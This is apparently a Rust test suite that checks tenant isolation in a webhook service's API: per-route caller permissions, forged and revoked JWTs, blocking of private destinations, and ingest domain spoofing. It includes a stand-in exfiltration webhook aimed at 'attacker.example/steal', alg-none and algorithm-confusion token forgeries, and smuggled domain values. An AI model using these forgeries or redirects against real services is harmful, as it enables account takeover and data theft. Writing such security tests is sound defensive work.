//! Access control, black-box: every API route × every kind of caller × own and foreign domain,
//! forged, stale and revoked tokens on every protected route, and what the routes without a
//! token reveal; on both stores.

mod common;

use common::web;

use base64::Engine as _;
use common::receiver::{Receiver, Reply};
use common::{Backend, TOKEN_SECRET, TestServer};
use hmac::{KeyInit, Mac};
use serde_json::{Value, json};
use switchhook::auth::{Claims, Role, TokenKeys, now_ms};
use switchhook::store::Revocation;

on_both_stores!(
    every_route_answers_every_caller_as_its_domain_allows,
    forged_stale_and_revoked_tokens_are_refused_on_every_route,
    health_and_metrics_reveal_no_tenant_data,
    private_destinations_are_refused_when_blocked,
    ingest_reaches_no_other_domain_through_any_domain_header,
);

/// The victim domain, whose hook every caller aims at, and a neighbour.
const A: &str = "a.example.com";
const B: &str = "b.example.com";
/// A's name as another tenant's token may spell it: domains are compared as written, so these
/// are other domains, never A.
const A_UPPER: &str = "A.EXAMPLE.COM";
const A_DOT: &str = "a.example.com.";
const HOOK_SECRET: &str = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw";
const HEADER_VALUE: &str = "Bearer s3cr3t-header";
const AUTH_KEY: &str = "auth-api-key-7f3e9a";
const MASK: &str = "********";
const HOUR_MS: i64 = 3_600_000;
/// Ids that exist nowhere: a foreign caller must not tell A's ids from these.
const GHOST_HOOK: &str = "0123456789abcdef01234567";
const GHOST_DELIVERY: &str = "00000000-0000-4000-8000-000000000000";

/// Domain A's hook (secret, bearer header, auth pre-request) and its failed delivery.
struct Fixture {
    s: TestServer,
    r: Receiver,
    hook: String,
    /// The body that created it, secret included.
    body: Value,
    delivery: String,
    /// A's hook as root reads it, before any caller had a go.
    before: Value,
}

fn event(name: &str, domain: &str) -> Value {
    json!({"Event-Name": name, "Unique-ID": uuid::Uuid::new_v4().to_string(), "variable_domain_name": domain})
}

async fn fixture(b: Backend) -> Fixture {
    let s = TestServer::start(b).await;
    let r = Receiver::start().await;
    r.script("/a", (0..100).map(|_| Reply::status(500).body("down")));
    let body = json!({"event": "CHANNEL_ANSWER", "action": web(&r.url("/a")), "secret": HOOK_SECRET,
        "headers": {"Authorization": HEADER_VALUE}, "retries": 0,
        "auth": {"enabled": true, "url": r.url("/auth"), "method": "POST", "headers": {"X-Api-Key": AUTH_KEY}}});
    let hook = s.create_hook(A, body.clone()).await;
    s.ingest(event("CHANNEL_ANSWER", A)).await;
    let log = s.settled(A, &hook, 1).await;
    assert_eq!(log[0]["status"], "failed", "{log:#?}");
    let delivery = log[0]["id"].as_str().unwrap().to_owned();
    let (_, v) = s.call("GET", &format!("/api/v2/hooks/{hook}?domain={A}"), Some(&s.root), None).await;
    let before = v["data"].clone();
    assert_eq!((&before["secret"], &before["headers"]["Authorization"]), (&json!(MASK), &json!(HEADER_VALUE)));
    Fixture { s, r, hook, body, delivery, before }
}

impl Fixture {
    /// Everything a caller can see of domain A; none of it may reach a caller outside A.
    fn markers(&self) -> Vec<String> {
        let addr = self.r.addr.to_string();
        [A, self.hook.as_str(), self.delivery.as_str(), "s3cr3t-header", AUTH_KEY, addr.as_str()]
            .map(str::to_owned)
            .to_vec()
    }

    /// A's hook, its secret, its delivery log and both domains' hook lists are as set up.
    async fn assert_untouched(&self, cell: &str) {
        let s = &self.s;
        let (_, v) = s.call("GET", &format!("/api/v2/hooks/{}?domain={A}", self.hook), Some(&s.root), None).await;
        assert_eq!(v["data"], self.before, "{cell}: A's hook changed");
        let stored = s.services.store.hook(A, &self.hook).await.unwrap().unwrap();
        assert_eq!(stored.doc.secret.as_deref(), Some(HOOK_SECRET), "{cell}: A's secret changed");
        let (_, v) = s.call("GET", &format!("/api/v2/hooks?domain={A}"), Some(&s.root), None).await;
        assert_eq!(v["data"], json!([self.before]), "{cell}: A's hook list changed");
        let (_, v) = s.call("GET", &format!("/api/v2/hooks?domain={B}"), Some(&s.root), None).await;
        assert_eq!(v["data"], json!([]), "{cell}: B's hook list changed");
        let log = s.deliveries(A, &self.hook, "").await;
        assert_eq!(
            (log.len(), &log[0]["id"], &log[0]["status"]),
            (1, &json!(self.delivery), &json!("failed")),
            "{cell}"
        );
    }
}

fn keys() -> TokenKeys {
    TokenKeys::new(TOKEN_SECRET.as_bytes()).unwrap()
}

/// A token shaped like the seed document's: a domain token without `r`.
fn seed_shaped(domain: &str) -> String {
    let claims = Claims::new(uuid::Uuid::new_v4().to_string(), now_ms() + HOUR_MS, Role::Admin, Some(domain.into()));
    keys().sign(&Claims { r: None, ..claims })
}

/// What a caller may do to domain A's hook.
#[derive(Debug, Clone, Copy, PartialEq)]
enum Access {
    Anonymous,
    /// Root without `?domain=`.
    NoDomain,
    /// A token without hook permissions.
    Denied,
    Own,
    /// Acts in this other domain, whatever it asks for.
    Foreign(&'static str),
}

struct Caller {
    name: &'static str,
    token: Option<String>,
    query: String,
    access: Access,
    /// Root may inject events of any domain.
    root: bool,
}

async fn callers(s: &TestServer) -> Vec<Caller> {
    let (admin_a, admin_b) = (s.token(Role::Admin, A).await, s.token(Role::Admin, B).await);
    let user_a = s.token(Role::User, A).await;
    let admin_upper = s.token(Role::Admin, A_UPPER).await;
    let c = |name, token: Option<&str>, query: &str, access, root| Caller {
        name,
        token: token.map(str::to_owned),
        query: query.to_owned(),
        access,
        root,
    };
    let (qa, qb) = (format!("?domain={A}"), format!("?domain={B}"));
    let (root, seed_a, seed_b) = (Some(s.root.as_str()), seed_shaped(A), seed_shaped(B));
    use Access::*;
    vec![
        c("no token", None, &qa, Anonymous, false),
        c("root", root, "", NoDomain, true),
        c("root ?domain=A", root, &qa, Own, true),
        c("root ?domain=B", root, &qb, Foreign(B), true),
        c("admin A", Some(&admin_a), "", Own, false),
        c("admin A ?domain=B", Some(&admin_a), &qb, Own, false),
        c("admin B", Some(&admin_b), "", Foreign(B), false),
        c("admin B ?domain=A", Some(&admin_b), &qa, Foreign(B), false),
        c("admin of A in capitals", Some(&admin_upper), "", Foreign(A_UPPER), false),
        c("admin of A in capitals ?domain=A", Some(&admin_upper), &qa, Foreign(A_UPPER), false),
        c("root ?domain=A in capitals", root, &format!("?domain={A_UPPER}"), Foreign(A_UPPER), true),
        c("user A", Some(&user_a), "", Denied, false),
        c("user A ?domain=A", Some(&user_a), &qa, Denied, false),
        c("seed-shaped A", Some(&seed_a), "", Own, false),
        c("seed-shaped B", Some(&seed_b), "", Foreign(B), false),
        c("seed-shaped B ?domain=A", Some(&seed_b), &qa, Foreign(B), false),
    ]
}

#[derive(Debug, Clone, Copy, PartialEq)]
enum Route {
    List,
    Create,
    Item,
    Update,
    Delete,
    Test,
    Deliveries,
    Retry,
    Ingest,
}

const ROUTES: [Route; 9] = [
    Route::List,
    Route::Create,
    Route::Item,
    Route::Update,
    Route::Delete,
    Route::Test,
    Route::Deliveries,
    Route::Retry,
    Route::Ingest,
];

/// What a caller who has no business in A sends: it would redirect A's webhooks if it landed.
fn intruder_hook() -> Value {
    json!({"event": "CHANNEL_ANSWER", "action": web("http://attacker.example/steal"), "secret": "attacker-secret"})
}

/// Method, path (without query) and body of `route`, aimed at hook `hook` / delivery `delivery`.
fn request(route: Route, hook: &str, delivery: &str, update_body: &Value) -> (&'static str, String, Option<Value>) {
    match route {
        Route::List => ("GET", "/api/v2/hooks".into(), None),
        Route::Create => ("POST", "/api/v2/hooks".into(), Some(intruder_hook())),
        Route::Item => ("GET", format!("/api/v2/hooks/{hook}"), None),
        Route::Update => ("PUT", format!("/api/v2/hooks/{hook}"), Some(update_body.clone())),
        Route::Delete => ("DELETE", format!("/api/v2/hooks/{hook}"), None),
        Route::Test => ("POST", format!("/api/v2/hooks/{hook}/test"), Some(event("CHANNEL_ANSWER", A))),
        Route::Deliveries => ("GET", format!("/api/v2/hooks/{hook}/deliveries"), None),
        Route::Retry => ("POST", format!("/api/v2/deliveries/{delivery}/retry"), None),
        // An event of A that matches no hook, so the delivery log stays as it is.
        Route::Ingest => ("POST", "/api/v2/events".into(), Some(event("CHANNEL_HANGUP", A))),
    }
}

fn ok(data: Value) -> Value {
    json!({"status": "OK", "data": data})
}

fn error(code: u16, info: &str) -> Value {
    json!({"status": "error", "info": info, "code": code})
}

/// Every `secret` anywhere in an answer is masked.
fn assert_secrets_masked(v: &Value, cell: &str) {
    match v {
        Value::Object(map) => map.iter().for_each(|(k, v)| {
            if k == "secret" {
                assert_eq!(v, MASK, "{cell}: {k} not masked");
            }
            assert_secrets_masked(v, cell);
        }),
        Value::Array(items) => items.iter().for_each(|v| assert_secrets_masked(v, cell)),
        _ => {}
    }
}

async fn every_route_answers_every_caller_as_its_domain_allows(b: Backend) {
    let fx = fixture(b).await;
    let s = &fx.s;
    let callers = callers(s).await;
    let mut cells = 0;
    for caller in &callers {
        for route in ROUTES {
            let cell = format!("{route:?} as {}", caller.name);
            // Deleting aims at a copy of A's hook, so A's own hook stays for the next cell.
            let target = match route {
                Route::Delete => s.create_hook(A, fx.body.clone()).await,
                _ => fx.hook.clone(),
            };
            let update_body = if caller.access == Access::Own { fx.before.clone() } else { intruder_hook() };
            let (method, path, body) = request(route, &target, &fx.delivery, &update_body);
            let (status, v) = s.call(method, &format!("{path}{}", caller.query), caller.token.as_deref(), body).await;
            let text = v.to_string();
            for secret in [HOOK_SECRET, "attacker-secret"] {
                assert!(!text.contains(secret), "{cell}: answer shows a secret: {text}");
            }
            assert_secrets_masked(&v, &cell);
            if caller.access != Access::Own {
                for marker in fx.markers().iter().chain([&target]) {
                    assert!(!text.contains(marker.as_str()), "{cell}: answer shows {marker:?} of A: {text}");
                }
            }
            expect(&fx, caller, route, &target, (status, &v), &cell).await;

            // Outside A, A's ids answer exactly as ids that exist nowhere.
            if caller.access != Access::Own && ![Route::List, Route::Create, Route::Ingest].contains(&route) {
                let (method, path, body) = request(route, GHOST_HOOK, GHOST_DELIVERY, &update_body);
                let ghost = s.call(method, &format!("{path}{}", caller.query), caller.token.as_deref(), body).await;
                assert_eq!(ghost, (status, v), "{cell}: A's id answers unlike an unknown id");
            }
            if route == Route::Delete && caller.access != Access::Own {
                let (_, v) = s.call("DELETE", &format!("/api/v2/hooks/{target}?domain={A}"), Some(&s.root), None).await;
                assert_eq!(v["data"]["n"], 1, "{cell}: the copy survives a foreign delete");
            }
            fx.assert_untouched(&cell).await;
            cells += 1;
        }
    }
    assert_eq!(cells, callers.len() * ROUTES.len());
    println!("{cells} cells");
}

/// Checks one cell's answer and undoes what an allowed call changed.
async fn expect(fx: &Fixture, caller: &Caller, route: Route, target: &str, got: (u16, &Value), cell: &str) {
    let s = &fx.s;
    let refused = match (caller.access, route) {
        (Access::Anonymous, _) => Some(error(401, "Invalid token")),
        (Access::Denied, _) => Some(error(403, "Permission denied!")),
        (_, Route::Ingest) if !caller.root && caller.access != Access::Own => Some(error(403, "Permission denied!")),
        (_, Route::Ingest) => None,
        (Access::NoDomain, _) => Some(error(400, "Bad request: domain is required.")),
        _ => None,
    };
    if let Some(want) = refused {
        assert_eq!(got, (want["code"].as_u64().unwrap() as u16, &want), "{cell}");
        return;
    }
    let own = caller.access == Access::Own;
    let (status, v) = got;
    match route {
        Route::List => assert_eq!(got, (200, &ok(if own { json!([fx.before]) } else { json!([]) })), "{cell}"),
        Route::Item => assert_eq!(got, (200, &ok(if own { fx.before.clone() } else { Value::Null })), "{cell}"),
        // The owner puts back what it read: matched, nothing modified.
        Route::Update => assert_eq!(got, (200, &ok(json!({"ok": 1, "n": u8::from(own), "nModified": 0}))), "{cell}"),
        Route::Delete => {
            assert_eq!(got, (200, &ok(json!({"ok": 1, "n": u8::from(own)}))), "{cell}");
            let (_, v) = s.call("GET", &format!("/api/v2/hooks/{target}?domain={A}"), Some(&s.root), None).await;
            assert_eq!(v["data"].is_null(), own, "{cell}: the copy is gone exactly when the caller may delete it");
        }
        Route::Create => {
            let domain = match caller.access {
                Access::Foreign(d) => d,
                _ => A,
            };
            assert_eq!(status, 200, "{cell}: {v}");
            let doc = &v["data"]["ops"][0];
            assert_eq!((&doc["domain"], &doc["secret"]), (&json!(domain), &json!(MASK)), "{cell}");
            let id = v["data"]["insertedIds"][0].as_str().unwrap();
            let (_, v) = s.call("DELETE", &format!("/api/v2/hooks/{id}?domain={domain}"), Some(&s.root), None).await;
            assert_eq!(v["data"]["n"], 1, "{cell}: the new hook is in {domain}");
        }
        Route::Test if own => {
            assert_eq!((status, &v["data"]["matched"]), (200, &json!(true)), "{cell}: {v}");
            let request = &v["data"]["request"];
            assert_eq!(request["url"], fx.r.url("/a"), "{cell}");
            assert!(
                request["headers"].as_array().unwrap().contains(&json!(["authorization", HEADER_VALUE])),
                "{cell}: {request}"
            );
        }
        Route::Test => assert_eq!(got, (404, &error(404, "Hook not found")), "{cell}"),
        Route::Deliveries if own => {
            let log = v["data"].as_array().unwrap();
            assert_eq!(
                (status, log.len(), &log[0]["id"], &log[0]["status"]),
                (200, 1, &json!(fx.delivery), &json!("failed")),
                "{cell}"
            );
        }
        Route::Deliveries => assert_eq!(got, (200, &ok(json!([]))), "{cell}"),
        Route::Retry if own => {
            assert_eq!(got, (200, &ok(json!({"id": fx.delivery, "status": "pending"}))), "{cell}");
            // The receiver still answers 500: the retry fails again and the log settles.
            let log = s.settled(A, &fx.hook, 1).await;
            assert_eq!(log[0]["status"], "failed", "{cell}");
        }
        Route::Retry => assert_eq!(got, (404, &error(404, "Delivery not found")), "{cell}"),
        Route::Ingest => assert_eq!(got, (200, &ok(json!({"accepted": 1, "deliveries": 0}))), "{cell}"),
    }
}

fn b64(bytes: &[u8]) -> String {
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(bytes)
}

fn hs256(input: &str) -> String {
    let mut mac = <hmac::Hmac<sha2::Sha256> as KeyInit>::new_from_slice(TOKEN_SECRET.as_bytes()).unwrap();
    mac.update(input.as_bytes());
    b64(&mac.finalize().into_bytes())
}

fn hs512(input: &str) -> String {
    let mut mac = <hmac::Hmac<sha2::Sha512> as KeyInit>::new_from_slice(TOKEN_SECRET.as_bytes()).unwrap();
    mac.update(input.as_bytes());
    b64(&mac.finalize().into_bytes())
}

/// `header.claims.` followed by what `sign` makes of the signing input.
fn forge(header: Value, claims: Value, sign: fn(&str) -> String) -> String {
    let input = format!("{}.{}", b64(header.to_string().as_bytes()), b64(claims.to_string().as_bytes()));
    format!("{input}.{}", sign(&input))
}

fn hs256_header() -> Value {
    json!({"typ": "JWT", "alg": "HS256"})
}

/// Admin-of-A claims, valid for an hour, with `patch` applied (null removes a key).
fn claims(patch: Value) -> Value {
    let base = json!({"id": uuid::Uuid::new_v4().to_string(), "exp": now_ms() + HOUR_MS, "d": A, "t": "domain",
        "v": 2, "r": "admin"});
    common::events::with(base, patch)
}

async fn forged_stale_and_revoked_tokens_are_refused_on_every_route(b: Backend) {
    let fx = fixture(b).await;
    let s = &fx.s;
    let revoked = s.token(Role::Admin, A).await;
    let (status, _) = s.call("GET", "/api/v2/hooks", Some(&revoked), None).await;
    assert_eq!(status, 200, "the token works before it is revoked");
    let id = keys().verify(&revoked, 0).unwrap().id;
    assert_eq!(s.services.store.revoke_token(&id, now_ms()).await.unwrap(), Revocation::Revoked);
    // The forging itself is sound: these claims, signed as the server signs, get in.
    let control = forge(hs256_header(), claims(json!({})), hs256);
    let (status, _) = s.call("GET", "/api/v2/hooks", Some(&control), None).await;
    assert_eq!(status, 200, "control token");

    let good = claims(json!({}));
    let foreign_keys = TokenKeys::new(b"another service's secret, 32 bytes").unwrap();
    let none = json!({"typ": "JWT", "alg": "none"});
    let expired = "Token Expired";
    let invalid = "Invalid token";
    let tokens: Vec<(&str, String, &str)> = vec![
        ("other secret", foreign_keys.sign(&Claims::new("o".into(), now_ms() + HOUR_MS, Role::Root, None)), invalid),
        ("alg none, no signature", forge(none.clone(), good.clone(), |_| String::new()), invalid),
        ("alg none, with a signature", forge(none, good.clone(), hs256), invalid),
        ("alg HS512 (right secret)", forge(json!({"typ": "JWT", "alg": "HS512"}), good.clone(), hs512), invalid),
        ("alg RS256 (HS256 MAC)", forge(json!({"typ": "JWT", "alg": "RS256"}), good.clone(), hs256), invalid),
        (
            "payload changed after signing",
            {
                let real = forge(hs256_header(), good.clone(), hs256);
                let sig = real.rsplit('.').next().unwrap().to_owned();
                let forged = forge(hs256_header(), claims(json!({"t": "root", "r": "root", "d": null})), hs256);
                format!("{}.{sig}", forged.rsplit_once('.').unwrap().0)
            },
            invalid,
        ),
        ("expired (ms)", forge(hs256_header(), claims(json!({"exp": now_ms() - 1})), hs256), expired),
        // SPEC §2 keeps `exp` in milliseconds: an expiry in seconds reads as January 1970.
        ("exp in seconds", forge(hs256_header(), claims(json!({"exp": now_ms() / 1000 + 3600})), hs256), expired),
        ("revoked", revoked, invalid),
        ("t is a role", forge(hs256_header(), claims(json!({"t": "admin"})), hs256), invalid),
        ("t missing", forge(hs256_header(), claims(json!({"t": null})), hs256), invalid),
        ("t empty", forge(hs256_header(), claims(json!({"t": ""})), hs256), invalid),
        ("domain token claiming r root", forge(hs256_header(), claims(json!({"r": "root"})), hs256), invalid),
        ("root token with r admin", forge(hs256_header(), claims(json!({"t": "root", "d": null})), hs256), invalid),
        ("d missing", forge(hs256_header(), claims(json!({"d": null})), hs256), invalid),
        ("d empty", forge(hs256_header(), claims(json!({"d": ""})), hs256), invalid),
        ("d a number", forge(hs256_header(), claims(json!({"d": 5})), hs256), invalid),
        ("exp a string", forge(hs256_header(), claims(json!({"exp": "99999999999999"})), hs256), invalid),
        ("id missing", forge(hs256_header(), claims(json!({"id": null})), hs256), invalid),
        ("empty", String::new(), invalid),
        ("not a JWT", "garbage".into(), invalid),
        ("two segments", "eyJhbGciOiJIUzI1NiJ9.e30".into(), invalid),
        ("four segments", format!("{}.x", forge(hs256_header(), good.clone(), hs256)), invalid),
        ("bad base64", "eyJ!!!.eyJ$$$.c2ln".into(), invalid),
        (
            "payload not JSON",
            {
                let input = format!("{}.{}", b64(hs256_header().to_string().as_bytes()), b64(b"not json"));
                format!("{input}.{}", hs256(&input))
            },
            invalid,
        ),
    ];
    let routes: Vec<_> = ROUTES.iter().map(|&r| request(r, &fx.hook, &fx.delivery, &fx.before)).collect();
    for (name, token, info) in &tokens {
        for (method, path, body) in &routes {
            let (status, v) = s.call(method, &format!("{path}?domain={A}"), Some(token), body.clone()).await;
            assert_eq!((status, &v), (401, &error(401, info)), "{name}: {method} {path}");
        }
    }
    fx.assert_untouched("after bad tokens").await;

    // Every carrier refuses a bad token, and a bad token is not passed over for a good one.
    let bad = &tokens[0].1;
    let list = s.url(&format!("/api/v2/hooks?domain={A}"));
    let carriers = [
        s.http.get(&list).bearer_auth(bad),
        s.http.get(format!("{list}&access_token={bad}")),
        s.http.get(format!("{list}&access_token={}", s.root)).header("X-Access-Token", bad),
        s.http.get(&list).header("X-Access-Token", bad).bearer_auth(&s.root),
    ];
    for (i, req) in carriers.into_iter().enumerate() {
        let resp = req.send().await.unwrap();
        let status = resp.status().as_u16();
        let v: Value = resp.json().await.unwrap();
        assert_eq!((status, &v), (401, &error(401, invalid)), "carrier {i}");
    }
    println!("{} tokens × {} routes", tokens.len(), routes.len());
}

async fn health_and_metrics_reveal_no_tenant_data(b: Backend) {
    let fx = fixture(b).await;
    let s = &fx.s;
    for path in ["/health", "/metrics"] {
        for token in [None, Some("garbage"), Some(s.root.as_str())] {
            let mut req = s.http.get(s.url(path));
            if let Some(t) = token {
                req = req.header("X-Access-Token", t);
            }
            let resp = req.send().await.unwrap();
            assert_eq!(resp.status(), 200, "{path}");
            let text = resp.text().await.unwrap();
            assert!(!text.is_empty(), "{path}");
            for marker in fx.markers().iter().map(String::as_str).chain([HOOK_SECRET, s.root.as_str()]) {
                assert!(!text.contains(marker), "{path} shows {marker:?}:\n{text}");
            }
        }
    }
}

/// With `delivery.block_private_networks`, a tenant's hook cannot reach the service's own host
/// or its networks, by address or by a name that resolves there, for the webhook or its auth
/// pre-request. A private address is refused when a hook is written; hooks stored before the
/// setting was turned on, and names, fail each attempt naming the setting; nothing arrives.
async fn private_destinations_are_refused_when_blocked(b: Backend) {
    let r = Receiver::start().await;
    let public = "http://8.8.8.8:9/never";
    let by_address = json!({"event": "CHANNEL_ANSWER", "action": web(&r.url("/by-address"))});
    let by_auth =
        json!({"event": "CHANNEL_ANSWER", "action": web(public), "auth": {"enabled": true, "url": r.url("/login")}});
    let by_name =
        json!({"event": "CHANNEL_ANSWER", "action": web(&r.url("/by-name").replace("127.0.0.1", "localhost"))});
    // Written before the setting is on.
    let s = TestServer::start(b).await;
    let (address_id, auth_id) = (s.create_hook(A, by_address.clone()).await, s.create_hook(A, by_auth.clone()).await);
    let (mut config, dir, pg) = s.stop().await;
    config.delivery.block_private_networks = true;
    let s = TestServer::start_with(config, dir, pg).await;

    let path = format!("/api/v2/hooks?domain={A}");
    let refused = "127.0.0.1 is not a public address (delivery.block_private_networks)";
    let (status, v) = s.call("POST", &path, Some(&s.root), Some(by_address.clone())).await;
    assert_eq!((status, v["info"].as_str().unwrap()), (400, format!("Bad request: action.url: {refused}").as_str()));
    let item = format!("/api/v2/hooks/{auth_id}?domain={A}");
    let (status, v) = s.call("PUT", &item, Some(&s.root), Some(by_auth)).await;
    assert_eq!((status, v["info"].as_str().unwrap()), (400, format!("Bad request: auth.url: {refused}").as_str()));
    let name_id = s.create_hook(A, by_name).await;
    // The dry run of a hook written before says so.
    let dry = format!("/api/v2/hooks/{address_id}/test?domain={A}");
    let (_, v) = s.call("POST", &dry, Some(&s.root), Some(event("CHANNEL_ANSWER", A))).await;
    assert_eq!(v["data"]["notes"], json!([format!("action.url: {refused}: every attempt fails")]));

    s.ingest(event("CHANNEL_ANSWER", A)).await;
    let expected = [
        (address_id, refused.to_owned()),
        (auth_id, format!("auth request: {refused}")),
        (name_id, "localhost resolves to no public address (delivery.block_private_networks)".to_owned()),
    ];
    for (id, said) in expected {
        let log = s.settled(A, &id, 1).await;
        let error = log[0]["log"][0]["error"].as_str().unwrap_or_default().to_owned();
        assert_eq!(log[0]["status"], "failed", "{log:#?}");
        assert!(error.contains(&said), "{said:?} not in {error:?}");
    }
    assert!(r.received().is_empty(), "{:?}", r.received());
}

/// A domain token injects only its own domain's events, however the event names its domain:
/// a batch that mixes in one event of A, A named only by a later domain header or by a
/// presence id, a key given twice, or A spelt in capitals or with a trailing dot. Nothing of
/// it reaches A's hook; an event of B that mentions A in a header the domain is not taken
/// from goes to B only.
async fn ingest_reaches_no_other_domain_through_any_domain_header(b: Backend) {
    let s = TestServer::start(b).await;
    let r = Receiver::start().await;
    let hook_a = s.create_hook(A, json!({"event": "CHANNEL_ANSWER", "action": web(&r.url("/a"))})).await;
    let hook_b = s.create_hook(B, json!({"event": "CHANNEL_ANSWER", "action": web(&r.url("/b"))})).await;
    let admin_b = s.token(Role::Admin, B).await;
    let (upper, dot) = (s.token(Role::Admin, A_UPPER).await, s.token(Role::Admin, A_DOT).await);
    let answer = |name: &str| json!({"Event-Name": name, "Unique-ID": uuid::Uuid::new_v4().to_string()});
    let with = |patch: Value| common::events::with(answer("CHANNEL_ANSWER"), patch);
    let refused: Vec<(&str, &str, String)> = vec![
        (
            "B: a batch with one event of A",
            &admin_b,
            json!([event("CHANNEL_ANSWER", B), event("CHANNEL_ANSWER", A)]).to_string(),
        ),
        (
            "B: A by variable_w_domain",
            &admin_b,
            with(json!({"variable_domain_name": "", "variable_w_domain": A})).to_string(),
        ),
        (
            "B: A by Channel-Presence-ID",
            &admin_b,
            with(json!({"variable_domain_name": null, "Channel-Presence-ID": format!("1000@{A}")})).to_string(),
        ),
        ("B: A by variable_presence_id", &admin_b, with(json!({"variable_presence_id": A})).to_string()),
        ("B: A after B's name", &admin_b, with(json!({"Channel-Presence-ID": format!("1000@{B}@{A}")})).to_string()),
        ("capitals: A", &upper, event("CHANNEL_ANSWER", A).to_string()),
        ("trailing dot: A", &dot, event("CHANNEL_ANSWER", A).to_string()),
    ];
    for (name, token, body) in &refused {
        let got = s.call_raw("POST", "/api/v2/events", token, body.clone().into_bytes()).await;
        assert_eq!(got, (403, error(403, "Permission denied!")), "{name}");
    }
    // Accepted, each as its caller's own domain: none of them is A.
    let own: Vec<(&str, &str, String, u64)> = vec![
        (
            "B: B, with A in the presence id",
            &admin_b,
            with(json!({"variable_domain_name": B, "Channel-Presence-ID": format!("1000@{A}")})).to_string(),
            1,
        ),
        (
            "B: B by presence id, A further down",
            &admin_b,
            with(json!({"Channel-Presence-ID": format!("1000@{B}"), "variable_presence_id": format!("1000@{A}")}))
                .to_string(),
            1,
        ),
        ("capitals: its own", &upper, event("CHANNEL_ANSWER", A_UPPER).to_string(), 0),
        ("trailing dot: its own", &dot, event("CHANNEL_ANSWER", A_DOT).to_string(), 0),
    ];
    for (name, token, body, deliveries) in &own {
        let got = s.call_raw("POST", "/api/v2/events", token, body.clone().into_bytes()).await;
        assert_eq!(got, (200, ok(json!({"accepted": 1, "deliveries": deliveries}))), "{name}");
    }
    // A key given twice: whichever of its values is read, B may not put the event in A.
    let twice =
        format!(r#"{{"Event-Name":"CHANNEL_ANSWER","variable_domain_name":"{B}","variable_domain_name":"{A}"}}"#);
    let reversed =
        format!(r#"{{"Event-Name":"CHANNEL_ANSWER","variable_domain_name":"{A}","variable_domain_name":"{B}"}}"#);
    for body in [twice, reversed] {
        let (status, v) = s.call_raw("POST", "/api/v2/events", &admin_b, body.clone().into_bytes()).await;
        assert!(status == 403 || v["data"]["deliveries"] == 1, "{body}: {status} {v}");
    }
    // Everything it took is B's (answers were given once the deliveries were stored).
    assert_eq!(s.deliveries(A, &hook_a, "").await, Vec::<Value>::new(), "A got a delivery");
    assert!(s.deliveries(B, &hook_b, "").await.len() >= 2);
    // The control: A's own event reaches A's hook.
    s.ingest(event("CHANNEL_ANSWER", A)).await;
    assert_eq!(s.deliveries(A, &hook_a, "").await.len(), 1);
}
